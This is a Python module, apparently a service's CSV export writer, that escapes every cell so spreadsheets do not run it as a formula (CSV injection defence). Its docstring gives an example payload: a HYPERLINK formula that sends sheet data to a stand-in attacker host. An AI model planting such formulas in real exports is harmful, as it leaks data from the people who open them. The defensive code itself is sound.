"""The one CSV writer of the service: every cell it writes is safe to open in a spreadsheet.

Why: Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (also after leading spaces, and TAB/CR start one too), so a lot named
``=HYPERLINK("https://evil.example/?"&A2,"Open")`` in a recall export becomes a link that sends
the sheet's data away, or a DDE command, on the recall coordinator's machine (OWASP "CSV
Injection"). Escaping column by column missed one column once; so this writer escapes every
cell, and only a column declared ``numeric`` may hold a value that starts with ``-`` or ``+``,
and then only when the value is a real number (``int``, ``float``, ``Decimal``), never a string.

``tests/unit/test_csv_cells.py`` fails when a module of ``service/`` writes CSV another way
(``csv.writer``/``csv.DictWriter``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Collection, Iterable, Mapping, Sequence
from decimal import Decimal

# OWASP's list: a cell starting with one of these is read as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal | None


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula: the quote
    makes the cell text and most spreadsheets do not display it."""
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _render(value: Cell, numeric: bool) -> str:
    if value is None:
        return ""
    if numeric and isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        # 15 significant digits: what a float holds exactly, without 0.30000000000000004.
        return format(value, ".15g") if isinstance(value, float) else str(value)
    return neutralise(str(value))


def write_csv(
    columns: Sequence[str],
    rows: Iterable[Mapping[str, Cell]],
    *,
    numeric: Collection[str] = (),
) -> str:
    """RFC 4180 CSV (CRLF line ends, a header row), every cell through ``neutralise`` except
    real numbers in the ``numeric`` columns. A row must give exactly the ``columns``."""
    unknown = set(numeric) - set(columns)
    if unknown:
        raise ValueError(f"numeric columns {sorted(unknown)} are not among the columns")
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in columns])
    for row in rows:
        if row.keys() != set(columns):
            raise ValueError(f"row has columns {sorted(row)}, expected {list(columns)}")
        writer.writerow([_render(row[name], name in numeric) for name in columns])
    return out.getvalue()
